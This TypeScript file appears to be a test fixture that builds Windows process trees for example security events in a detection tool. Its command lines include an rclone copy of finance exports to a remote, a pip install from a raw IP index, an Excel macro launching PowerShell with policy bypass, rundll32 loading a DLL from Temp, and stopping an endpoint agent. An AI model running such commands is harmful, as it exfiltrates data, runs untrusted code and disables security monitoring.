// The process trees of the example events, exactly as the contract shows them.
import { NAMED } from './named-hashes';
import { processNode, type ProcessNode } from './process-trees';
import { SYS } from './system-binaries';

/** The process trees of the example events, exactly as the contract shows them. */
export function exampleTrees(): Record<number, ProcessNode> {
  const n = processNode;
  const file = (key: string, user: string) => {
    const h = NAMED.find((x) => x.key === key)!;
    return {
      name: h.fileName,
      path: h.path.replace('{user}', user),
      sha256: h.sha256,
      publisher: h.publisher,
    };
  };
  const explorer = (pid: number, children: ProcessNode[]) =>
    n(pid, SYS.explorer!, 'C:\\Windows\\Explorer.EXE', children);
  const code = { ...SYS.code!, path: SYS.code!.path.replace('{user}', 'lnguyen') };
  return {
    7734460: explorer(6124, [
      n(11872, file('invoice', 'mwebb'), '"C:\\Users\\mwebb\\Downloads\\invoice_viewer.exe"'),
    ]),
    7734446: explorer(4388, [n(7712, file('portable', ''), '"E:\\PortableApps\\PortableApps.exe"')]),
    7734439: explorer(5260, [
      n(
        13044,
        file('zoom', 'hkowalski'),
        '"C:\\Users\\hkowalski\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --action=join --confno=84512290371',
      ),
    ]),
    7734432: n(1460, SYS.svchost!, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', [
      n(9328, SYS.cmd!, 'C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\sync\\run_sync.cmd', [
        n(
          9412,
          file('rclone', ''),
          'C:\\ProgramData\\sync\\rclone.exe copy D:\\Finance\\Exports fabsync:fab-backup --transfers 8',
        ),
      ]),
    ]),
    7734425: explorer(7020, [
      n(
        12556,
        SYS.rundll32!,
        'C:\\Windows\\System32\\rundll32.exe C:\\Users\\cdubois\\AppData\\Local\\Temp\\update_helper.dll,DllRegisterServer',
      ),
    ]),
    7734411: explorer(3904, [
      n(8816, code, '"C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"', [
        n(
          15220,
          file('python', 'lnguyen'),
          'C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Python\\Python312\\python.exe -m pip install --index-url http://203.0.113.50/simple fab-etl-tools',
        ),
      ]),
    ]),
    7734404: explorer(6124, [
      n(
        10340,
        file('chromeUpdater', 'mwebb'),
        '"C:\\Users\\mwebb\\AppData\\Roaming\\chrome_updater.exe" /silent',
      ),
    ]),
    7734390: explorer(5588, [
      n(
        9964,
        SYS.excel!,
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\jpark\\Documents\\BOM_costing_Q4.xlsm"',
        [
          n(
            14408,
            SYS.powershell!,
            'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\jpark\\AppData\\Local\\Temp\\sync_share.ps1',
          ),
        ],
      ),
    ]),
    7734383: explorer(2816, [
      n(6032, SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [
        n(6140, file('sc', ''), 'sc.exe stop EndpointAgent'),
      ]),
    ]),
  };
}
